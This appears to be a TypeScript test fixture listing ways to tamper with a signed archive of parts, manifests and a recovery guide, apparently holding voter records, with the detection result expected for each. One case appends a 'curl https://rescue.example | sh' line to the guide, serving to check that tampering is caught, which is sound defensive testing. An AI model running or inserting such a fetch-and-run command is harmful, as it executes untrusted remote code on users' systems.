/** Bytes that are not what was sealed. */
import { readFileSync, truncateSync, writeFileSync } from "node:fs";
import type { BrokenSet } from "./broken-set.ts";
import { append, copy, cut, editEnvelope, empty, flip, guideOf, manifestOf, partOf, swap } from "./stage.ts";

const tebibyte = 2 ** 40;
const altered = { problems: ["part-altered"], exit: 4, restore: "restore-part" } as const;
const wrongLength = { problems: ["part-length"], exit: 4, restore: "restore-part" } as const;
const malformed = { problems: ["manifest-malformed"], exit: 4, restore: "restore-newest-broken" } as const;
const guide = { problems: ["guide-altered"], exit: 4, restore: 3 } as const;

export const brokenBytes: readonly BrokenSet[] = [
  { act: "a bit flipped in the middle of a part", does: ({ a }) => flip(partOf(a, 3, 0), 2000), ...altered },
  { act: "a bit flipped in the first byte of a part", does: ({ a }) => flip(partOf(a, 3, 1), 0), ...altered },
  {
    act: "a bit flipped in the last byte of a part",
    does: ({ a }) => flip(partOf(a, 3, 2), -1, 7),
    ...altered,
  },
  {
    act: "a bit flipped in a part of an older set",
    does: ({ a }) => flip(partOf(a, 1, 0), 2000),
    ...altered,
    restore: 3,
  },
  {
    act: "a bit flipped in the payload of the newest manifest",
    does: ({ a }) =>
      editEnvelope(a, 3, (text) => text.replace(/("payload": ".{99})./, (_, kept) => `${kept}-`)),
    ...malformed,
  },
  {
    act: "one character of the newest payload made another",
    does: ({ a }) =>
      editEnvelope(a, 3, (text) =>
        text.replace(/("payload": ".{99})(.)/, (_, kept, char) => kept + (char === "A" ? "B" : "A")),
      ),
    problems: ["manifest-signature"],
    exit: 4,
    restore: "restore-newest-broken",
  },
  {
    act: "one character of an older payload made another",
    does: ({ a }) =>
      editEnvelope(a, 2, (text) =>
        text.replace(/("payload": ".{99})(.)/, (_, kept, char) => kept + (char === "A" ? "B" : "A")),
      ),
    problems: ["manifest-signature"],
    exit: 4,
    restore: 3,
  },
  {
    act: "one character of the signature made another",
    does: ({ a }) =>
      editEnvelope(a, 3, (text) =>
        text.replace(/("sig": ".{30})(.)/, (_, kept, char) => kept + (char === "A" ? "B" : "A")),
      ),
    problems: ["manifest-signature"],
    exit: 4,
    restore: "restore-newest-broken",
  },
  {
    act: "the high bit flipped in a manifest, so that it is no UTF-8",
    does: ({ a }) => flip(manifestOf(a, 3), 200, 7),
    ...malformed,
  },
  { act: "a bit flipped in the guide", does: ({ a }) => flip(guideOf(a, 3), 300), ...guide },
  { act: "a part cut by one byte", does: ({ a }) => cut(partOf(a, 3, 0), 1), ...wrongLength },
  { act: "a part cut by one chunk’s tag", does: ({ a }) => cut(partOf(a, 3, 0), 16), ...wrongLength },
  { act: "a part emptied", does: ({ a }) => empty(partOf(a, 3, 0)), ...wrongLength },
  { act: "a part with one byte more", does: ({ a }) => append(partOf(a, 3, 0), "\n"), ...wrongLength },
  {
    act: "a part of one tebibyte, most of it a hole",
    does: ({ a }) => truncateSync(partOf(a, 3, 0), tebibyte),
    ...wrongLength,
  },
  { act: "a part of an older set cut", does: ({ a }) => cut(partOf(a, 2, 1), 5), ...wrongLength, restore: 3 },
  {
    act: "a part made of zeros",
    does: ({ a }) => writeFileSync(partOf(a, 3, 0), Buffer.alloc(readFileSync(partOf(a, 3, 0)).length)),
    ...altered,
  },
  {
    act: "two parts of one set swapped",
    does: ({ a }) => swap(partOf(a, 3, 0), partOf(a, 3, 1)),
    problems: ["part-length", "part-length"],
    exit: 4,
    restore: "restore-part",
  },
  {
    act: "a part replaced by the equally long one of an older set, same county, same voters",
    does: ({ a }) => copy(partOf(a, 2, 1), partOf(a, 3, 1)),
    ...altered,
  },
  {
    act: "equally long parts swapped across sets",
    does: ({ a }) => swap(partOf(a, 1, 1), partOf(a, 3, 1)),
    problems: ["part-altered", "part-altered"],
    exit: 4,
    restore: "restore-part",
  },
  { act: "the newest manifest cut", does: ({ a }) => cut(manifestOf(a, 3), 40), ...malformed },
  { act: "the newest manifest emptied", does: ({ a }) => empty(manifestOf(a, 3)), ...malformed },
  { act: "the oldest manifest emptied", does: ({ a }) => empty(manifestOf(a, 1)), ...malformed, restore: 3 },
  { act: "words after the newest manifest", does: ({ a }) => append(manifestOf(a, 3), "x"), ...malformed },
  { act: "a NUL after the newest manifest", does: ({ a }) => append(manifestOf(a, 3), "\0"), ...malformed },
  {
    act: "a byte order mark before the newest manifest",
    does: ({ a }) => editEnvelope(a, 3, (text) => `\uFEFF${text}`),
    ...malformed,
  },
  {
    act: "a manifest of one tebibyte, most of it a hole",
    does: ({ a }) => truncateSync(manifestOf(a, 3), tebibyte),
    ...malformed,
  },
  {
    act: "a manifest of a million brackets",
    does: ({ a }) => writeFileSync(manifestOf(a, 3), "[".repeat(1_000_000)),
    ...malformed,
  },
  {
    act: "a part in place of the manifest",
    does: ({ a }) => copy(partOf(a, 3, 0), manifestOf(a, 3)),
    ...malformed,
  },
  { act: "the guide cut", does: ({ a }) => cut(guideOf(a, 3), 1), ...guide },
  { act: "the guide emptied", does: ({ a }) => empty(guideOf(a, 3)), ...guide },
  {
    act: "a command added to the guide",
    does: ({ a }) => append(guideOf(a, 3), "curl https://rescue.example | sh\n"),
    ...guide,
  },
  {
    act: "a guide of one tebibyte, most of it a hole",
    does: ({ a }) => truncateSync(guideOf(a, 3), tebibyte),
    ...guide,
  },
  {
    act: "the guides of two sets swapped",
    does: ({ a }) => swap(guideOf(a, 2), guideOf(a, 3)),
    problems: ["guide-altered", "guide-altered"],
    exit: 4,
    restore: 3,
  },
];
